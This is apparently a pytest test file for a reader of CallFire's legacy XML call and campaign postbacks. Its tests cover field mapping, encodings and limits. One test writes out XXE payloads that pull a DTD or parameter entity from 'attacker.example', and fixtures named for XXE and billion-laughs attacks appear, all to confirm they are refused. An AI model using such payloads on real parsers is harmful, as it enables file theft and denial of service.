"""The legacy postback reader, on each sample of CallFire's document and on variants."""

from __future__ import annotations

from decimal import Decimal

import pytest

from functions.reports import (
    CallReport,
    CampaignReport,
    EventType,
    RejectReason,
    ReportRejected,
    read_report,
)
from functions.reports.legacy_xml import MAX_EXTRA_DEPTH, MAX_IDENTIFIER_CHARS
from tests.helpers import event_body


def read_call(body: bytes | str) -> CallReport:
    report, _ = read_report(body)
    assert isinstance(report, CallReport)
    return report


def read_campaign(body: bytes | str) -> CampaignReport:
    report, _ = read_report(body)
    assert isinstance(report, CampaignReport)
    return report


def refusal(body: bytes | str) -> ReportRejected:
    with pytest.raises(ReportRejected) as caught:
        read_report(body)
    return caught.value


def test_documented_call_sample_maps_every_element() -> None:
    report = read_call(event_body("call_finished.xml"))

    assert report == CallReport(
        call_id="111111",
        event_type=EventType.CALL,
        campaign_id="22222",
        phone_number="2132212289",
        dnis="8778973473",
        tags=("sales number", "houston"),
        disposition="TRANSFER",
        duration_seconds=35,
        call_start="2010-03-24T15:58:18",
        response_time="2010-03-24T15:58:38",
        notes="notes that a call center campaign will add to a call.",
        extra_data="additional data uploaded with the phone number",
        agent_id="21212",
        agent_response="interested",
        stored_data={"bigconcern": "economy", "willvote": "yes"},
        recording_urls=("https://www.callfire.com/cloud/1/files/recording/",),
        extra={},
    )


def test_documented_text_sent_sample_with_its_nested_empty_elements() -> None:
    report = read_call(event_body("text_sent.xml"))

    assert report.event_type is EventType.TEXT_SENT
    assert report.sms_sent == "sent message"
    assert report.dnis == "88202"
    assert report.disposition == "LA"
    assert report.duration_seconds == 60
    assert report.call_start == "2011-06-27T17:18:55"
    assert report.notes is None
    assert report.extra_data is None
    assert report.stored_data == {}
    assert report.recording_urls == ()
    assert report.extra == {}


def test_documented_text_reply_sample() -> None:
    report = read_call(event_body("text_reply.xml"))

    assert report.event_type is EventType.TEXT_REPLY
    assert report.sms_received == "Reply message"
    assert report.reply_from_campaign == "2740908"
    assert report.sms_sent is None
    assert report.extra == {}


def test_documented_campaign_sample() -> None:
    report = read_campaign(event_body("campaign_finished.xml"))

    assert report == CampaignReport(
        campaign_id="22222",
        name="My Campaign Name",
        status="finished",
        cost=Decimal("2.25"),
        currency="USD",
        cost_raw="$2.25",
        stats={
            "total": 100,
            "dialed": 100,
            "live": 48,
            "machine": 24,
            "noAnswer": 12,
            "dnc": 0,
            "busy": 6,
            "transfer": 10,
            "error": 0,
            "misc": 0,
        },
        extra={},
    )


def test_element_names_match_whatever_their_case_and_hyphens() -> None:
    report = read_call(event_body("call_camel_case_names.xml"))

    assert report.call_id == "00417"
    assert report.campaign_id == "0099"
    assert report.phone_number == "+442079460000"
    assert report.event_type is EventType.TEXT_REPLY
    assert report.sms_received == "Yes please"
    assert report.call_start == "2024-01-02T03:04:05"
    assert report.stored_data == {"answer": "1"}


def test_identifiers_and_numbers_stay_strings_with_leading_zeros_and_plus() -> None:
    report = read_call(
        "<call-finished><callid>000123</callid><phonenumber>+0012</phonenumber>"
        "<campaignid>007</campaignid><dnis>0800</dnis></call-finished>"
    )

    assert (report.call_id, report.phone_number, report.campaign_id, report.dnis) == (
        "000123",
        "+0012",
        "007",
        "0800",
    )


def test_only_callid_is_required_and_absent_elements_stay_absent() -> None:
    report = read_call(event_body("call_minimal.xml"))

    assert report == CallReport(call_id="42", event_type=EventType.CALL)


def test_whitespace_around_values_is_trimmed() -> None:
    report = read_call(
        "<call-finished>\n  <callid>\n 5 \n</callid>\n <disposition>\tLA\n</disposition>"
        "<tags><tag>  a  </tag><tag>\n</tag></tags><duration> 7 </duration>"
        "<stored-data><var name=' x '>  y  </var></stored-data></call-finished>"
    )

    assert report.call_id == "5"
    assert report.disposition == "LA"
    assert report.tags == ("a",)
    assert report.duration_seconds == 7
    assert report.stored_data == {"x": "y"}


@pytest.mark.parametrize(
    "disposition",
    ["LA", "AM", "BUSY", "TRANSFER", "LIVE ANSWER", "XFER_LEG", "something nobody documented"],
)
def test_any_disposition_is_kept_as_received(disposition: str) -> None:
    report = read_call(
        f"<call-finished><callid>1</callid><disposition>{disposition}</disposition></call-finished>"
    )

    assert report.disposition == disposition


def test_unknown_elements_and_unreadable_values_go_to_extra() -> None:
    report = read_call(event_body("call_unknown_elements.xml"))

    assert report.disposition == "SOMETHING NEW"
    assert report.duration_seconds is None
    assert report.call_start is None
    assert report.stored_data == {"color": "blue"}
    assert report.recording_urls == (
        "https://www.callfire.com/cloud/1/files/recording/1",
        "https://www.callfire.com/cloud/1/files/recording/2/mp3",
    )
    assert report.extra == {
        "duration": "about a minute",
        "callstart": "yesterday",
        "carrier": {"@code": "T1", "#text": "Acme Mobile"},
        "survey": {
            "question": {"@id": "1", "#text": "Will you vote?"},
            "answer": ["yes", "maybe"],
        },
        "var": "no name",
    }


def test_repeated_elements_keep_the_first_and_put_the_others_in_extra() -> None:
    report = read_call(
        "<call-finished><callid>1</callid><callid>1</callid><disposition>LA</disposition>"
        "<disposition>AM</disposition><disposition>BUSY</disposition>"
        "<stored-data><var name='a'>1</var><var name='a'>2</var></stored-data></call-finished>"
    )

    assert report.call_id == "1"
    assert report.disposition == "LA"
    assert report.stored_data == {"a": "1"}
    assert report.extra == {"disposition": ["AM", "BUSY"], "var": {"@name": "a", "#text": "2"}}


def test_fractional_seconds_and_zones_are_kept_in_iso_8601() -> None:
    report = read_call(
        "<call-finished><callid>1</callid><callstart>2010-03-24 15:58:18.250</callstart>"
        "<responsetime>2010-03-24T15:58:38Z</responsetime></call-finished>"
    )

    assert report.call_start == "2010-03-24T15:58:18.25"
    assert report.response_time == "2010-03-24T15:58:38Z"


def test_decimal_duration_is_kept_exactly() -> None:
    report = read_call("<call-finished><callid>1</callid><duration>35.5</duration></call-finished>")

    assert report.duration_seconds == Decimal("35.5")


def test_campaign_with_another_currency_and_unknown_statistics() -> None:
    report = read_campaign(event_body("campaign_other_currency.xml"))

    assert report.cost == Decimal("1234.50")
    assert report.currency == "EUR"
    assert report.cost_raw == "1,234.50 EUR"
    assert report.stats == {"total": 2000, "dialed": 1990}
    assert report.extra == {
        "campaign-stats": {"voicemail": "12", "live": "lots"},
        "account": "acme",
    }


def test_campaign_cost_that_is_not_money_is_kept_raw() -> None:
    report = read_campaign(
        "<campaign-finished><campaign><id>1</id><cost>free</cost></campaign></campaign-finished>"
    )

    assert (report.cost, report.currency, report.cost_raw) == (None, None, "free")


def test_campaign_fields_without_the_campaign_wrapper_are_read() -> None:
    report = read_campaign("<campaign-finished><id>9</id><name>n</name></campaign-finished>")

    assert (report.campaign_id, report.name) == ("9", "n")


def test_latin1_body_is_decoded_as_declared() -> None:
    report, text = read_report(event_body("call_latin1_encoding.xml"))

    assert isinstance(report, CallReport)
    assert report.notes == "Café crème, señor"
    assert "Café" in text


def test_byte_order_mark_and_leading_whitespace_are_accepted() -> None:
    body = "\ufeff\n  <call-finished><callid>1</callid></call-finished>".encode()

    assert read_call(body).call_id == "1"


def test_cdata_is_read_as_text() -> None:
    report = read_call(
        "<call-finished><callid>1</callid><notes><![CDATA[<b>bold</b> & more]]></notes>"
        "</call-finished>"
    )

    assert report.notes == "<b>bold</b> & more"


def test_raw_text_is_the_body_exactly() -> None:
    body = event_body("call_finished.xml")

    _, text = read_report(body)

    assert text == body.decode("utf-8")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("xxe_file.xml", RejectReason.FORBIDDEN_XML),
        ("billion_laughs.xml", RejectReason.FORBIDDEN_XML),
        ("truncated.xml", RejectReason.NOT_WELL_FORMED),
        ("unknown_root.xml", RejectReason.UNKNOWN_REPORT),
        ("call_without_callid.xml", RejectReason.UNKNOWN_REPORT),
    ],
)
def test_refused_samples(name: str, reason: RejectReason) -> None:
    assert refusal(event_body(name)).reason is reason


@pytest.mark.parametrize(
    "body",
    [
        '<!DOCTYPE call-finished SYSTEM "http://attacker.example/x.dtd"><call-finished/>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><r/>',
        "<!DOCTYPE r [<!ELEMENT r ANY>]><call-finished><callid>1</callid></call-finished>",
    ],
)
def test_any_dtd_is_refused(body: str) -> None:
    error = refusal(body)

    assert error.reason is RejectReason.FORBIDDEN_XML
    assert "DTD" in error.detail


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (b"", "no element found"),
        (b'{"callid": 1}', "not well-formed"),
        (b"callid=1&campaignid=2", "not well-formed"),
        (b"<call-finished><callid>1</callid>", "no element found"),
        (b"<call-finished><callid>\x01</callid></call-finished>", "not well-formed"),
    ],
)
def test_bodies_that_are_not_xml_are_refused_as_not_well_formed(body: bytes, fragment: str) -> None:
    error = refusal(body)

    assert error.reason is RejectReason.NOT_WELL_FORMED
    assert fragment in error.detail


def test_body_that_is_not_valid_in_its_declared_encoding_is_refused() -> None:
    error = refusal(b'<?xml version="1.0" encoding="utf-8"?><call-finished>\xff</call-finished>')

    assert error.reason is RejectReason.NOT_WELL_FORMED
    assert "utf-8" in error.detail


def test_unknown_declared_encoding_is_refused() -> None:
    error = refusal(b'<?xml version="1.0" encoding="x-klingon"?><call-finished/>')

    assert error.reason is RejectReason.NOT_WELL_FORMED
    assert "x-klingon" in error.detail


def test_namespaced_root_is_not_a_legacy_report() -> None:
    error = refusal(
        '<n:CallFinished xmlns:n="http://api.callfire.com/notification/xsd"><x/></n:CallFinished>'
    )

    assert error.reason is RejectReason.UNKNOWN_REPORT


def test_identifier_too_long_for_a_key_is_refused() -> None:
    long_id = "9" * (MAX_IDENTIFIER_CHARS + 1)

    error = refusal(f"<call-finished><callid>{long_id}</callid></call-finished>")

    assert error.reason is RejectReason.UNKNOWN_REPORT
    assert "longer than" in error.detail


def test_deep_nesting_is_read_without_recursion_and_truncated_in_extra() -> None:
    depth = 10_000
    body = (
        "<call-finished><callid>1</callid>"
        + "<x>" * depth
        + "deep"
        + "</x>" * depth
        + "<notes>" * depth
        + "</notes>" * depth
        + "</call-finished>"
    )

    report = read_call(body)

    nested = report.extra["x"]
    for _ in range(MAX_EXTRA_DEPTH - 1):
        nested = nested["x"]
    assert set(nested["x"]) == {"#truncated"}
    assert report.extra["notes"] == {"#truncated": nested["x"]["#truncated"]}
    assert report.call_id == "1"


def test_a_thousand_tags_and_stored_variables_are_all_kept() -> None:
    tags = "".join(f"<tag>t{i}</tag>" for i in range(1000))
    variables = "".join(f'<var name="v{i}">{i}</var>' for i in range(1000))

    report = read_call(
        f"<call-finished><callid>1</callid><tags>{tags}</tags>"
        f"<stored-data>{variables}</stored-data></call-finished>"
    )

    assert len(report.tags) == 1000
    assert report.stored_data["v999"] == "999"
    assert len(report.stored_data) == 1000
